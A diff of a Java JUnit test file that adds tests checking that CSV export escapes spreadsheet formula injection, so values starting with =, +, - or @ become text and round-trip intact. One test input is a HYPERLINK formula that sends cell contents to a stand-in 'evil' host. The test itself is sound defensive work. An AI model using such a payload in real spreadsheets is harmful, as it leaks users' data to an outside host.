@@ -1,15 +1,22 @@
 package org.marrowwatch.intake.imports;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
 
+import com.fasterxml.jackson.databind.node.JsonNodeFactory;
+import java.io.IOException;
+import java.io.StringWriter;
+import java.io.Writer;
 import java.nio.charset.Charset;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Optional;
 import java.util.UUID;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.marrowwatch.intake.Problem;
 import org.marrowwatch.intake.imports.Row.Kind;
 
@@ -156,14 +163,77 @@ class UnpackingTest {
                 kept(new Row(Kind.RESULT, "a", 2, "{\"identifier\":\"H;1\",\"value\":\"1,5\"}", List.of(problem))),
                 kept(new Row(Kind.RESULT, "a", 3, "[\"H\",\"2026-06-01\",\"1\",\"5\",\"U/L\"]", List.of(problem))));
 
-        String table = Mending.table(kept, ';');
+        String table = table(kept);
 
         assertThat(table)
                 .isEqualTo(
                         "\uFEFFidentifier;on;value;unit;lowerLimit;upperLimit;laboratory;method;fraction\n\"H;1\";;1,5;;;;;;\nH;2026-06-01;1;5;U/L\n");
         assertThat(rows("again.csv", table)).hasSize(2);
-        assertThat(Mending.lines(List.of(kept(Row.of(Kind.LISTED, "b", 1, "{\"a\":\n   1}")))))
+        assertThat(written(out -> Mending.lines(Stream.of(kept(Row.of(Kind.LISTED, "b", 1, "{\"a\":\n   1}"))), out)))
                 .isEqualTo("{\"a\": 1}\n");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+                "+1+1",
+                "-A1",
+                "@SUM(1)",
+                "'=1",
+                "''@x",
+                "-1,5",
+                "-2",
+                "'-2",
+                "'quoted'",
+                "O'Neil",
+                "1-2"
+            })
+    void whatWouldBeAFormulaInASpreadsheetIsTextThereAndComesBackAsItWas(String identifier) {
+        String content = JsonNodeFactory.instance
+                .objectNode()
+                .put("identifier", identifier)
+                .put("unit", "U/L")
+                .toString();
+        String asItStands = JsonNodeFactory.instance
+                .arrayNode()
+                .add(identifier)
+                .add("b")
+                .add("c")
+                .add("d")
+                .add("e")
+                .toString();
+
+        String table = table(List.of(kept(Row.of(Kind.RESULT, "a", 2, content))));
+        String tooMany = table(List.of(kept(Row.of(Kind.RESULT, "a", 2, asItStands))));
+
+        String cell = table.lines().skip(1).findFirst().orElseThrow().replaceFirst("^\"", "");
+        assertThat(cell.matches("[=@+].*|-[^0-9].*")).isFalse();
+        assertThat(contents(rows("again.csv", table.substring(1)))).containsExactly(content);
+        assertThat(contents(
+                        rows("again.csv", "identifier;on;value;unit\n" + tooMany.substring(tooMany.indexOf('\n') + 1))))
+                .containsExactly(asItStands);
+    }
+
+    @Test
+    void whatStandsBeforeAFormulaDoesNotHideIt() {
+        String table = table(List.of(kept(Row.of(Kind.RESULT, "a", 2, "[\"\\t=1\",\"\\r=2\"]"))));
+
+        assertThat(table).contains("'\t=1;\"'\n=2\"");
+    }
+
+    private interface Writing {
+        void to(Writer out) throws IOException;
+    }
+
+    private static String written(Writing writing) {
+        StringWriter out = new StringWriter();
+        assertDoesNotThrow(() -> writing.to(out));
+        return out.toString();
+    }
+
+    private static String table(List<KeptRow> rows) {
+        return written(out -> Mending.table(rows.stream(), ';', out));
     }
 
     private static KeptRow kept(Row row) {
